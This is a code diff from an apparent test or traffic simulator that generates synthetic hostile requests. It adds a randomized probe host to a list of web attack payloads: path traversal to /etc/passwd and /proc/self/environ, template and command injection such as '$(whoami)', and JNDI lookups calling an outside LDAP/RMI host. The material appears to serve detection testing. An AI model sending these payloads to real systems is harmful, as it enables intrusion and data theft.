@@ -16,7 +16,7 @@ const PAYLOADS = {
   path: ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/hosts', '/proc/self/environ'],
   template: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '{{config.items()}}', '#{T(java.lang.Runtime)}'],
   command: ['lamp; id', 'lamp | cat /etc/hosts', '$(whoami)', 'lamp`sleep 4`', '|| ping -c 3 127.0.0.1'],
-  lookup: ['${jndi:ldap://probe.dropzone.example/a}', '${${lower:j}ndi:rmi://probe.dropzone.example/b}'],
+  lookup: ['${jndi:ldap://PROBE/a}', '${${lower:j}ndi:rmi://PROBE/b}'],
 } as const;
 
 const ALL: readonly string[] = Object.values(PAYLOADS).flat();
@@ -25,8 +25,10 @@ function loud({ open, roles, start, stage }: Play): void {
   const { search, browse } = roles;
   const session = open(visitor(roles, stage.world.operation(search.operation), roles.stranger(0)), start);
   const { random } = session;
+  const probe = `${random.base32(6)}.${roles.foreign.host}`;
+  const first = random.int(0, ALL.length - 1);
   for (let index = 0; index < TRIES; index += 1) {
-    const payload = ALL[index % ALL.length] ?? '';
+    const payload = (ALL[(first + index) % ALL.length] ?? '').replace('PROBE', probe);
     const text = index % 3 === 2 ? encodeURIComponent(payload) : payload;
     const status = random.pick([400, 400, 400, 500, 500, 200]);
     if (index % 4 === 3) session.call(browse.read, { params: [text], status: random.pick([400, 404, 404, 500]) });
